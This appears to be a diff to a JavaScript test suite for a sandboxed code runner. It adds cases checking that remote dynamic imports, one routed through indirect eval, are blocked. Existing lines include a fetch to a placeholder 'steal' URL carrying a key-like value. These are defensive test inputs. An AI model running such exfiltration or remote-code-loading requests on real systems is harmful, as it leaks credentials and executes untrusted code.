@@ -236,6 +236,8 @@ describe('output', () => {
         '  () => fetch("https://example.com/steal?key=AKIA"),',
         '  () => new WebSocket("wss://example.com/socket"),',
         '  () => { const xhr = new XMLHttpRequest(); xhr.open("GET", "https://example.com/x"); xhr.send(); },',
+        '  () => import("https://example.com/module.js"),',
+        '  () => (0, eval)("import(\\"https://example.com/evaled.js\\")"),',
         ']) {',
         '  try { await attempt(); console.log("reached the network!"); } catch (error) { console.log(String(error)); }',
         '}',
@@ -247,6 +249,10 @@ describe('output', () => {
     expect(output).toContain('TypeError: Network request blocked: GET https://example.com/steal was not sent');
     expect(output).toContain('WebSocket to wss://example.com/socket was not sent');
     expect(output).toContain('XMLHttpRequest GET https://example.com/x was not sent');
+    expect(output).toContain("Cannot find module 'https://example.com/module.js'");
+    // An import() the compiler cannot see is stopped by the page's Content-Security-Policy,
+    // which the run worker inherits.
+    expect(output).toContain('Failed to fetch dynamically imported module: https://example.com/evaled.js');
   });
 });
 
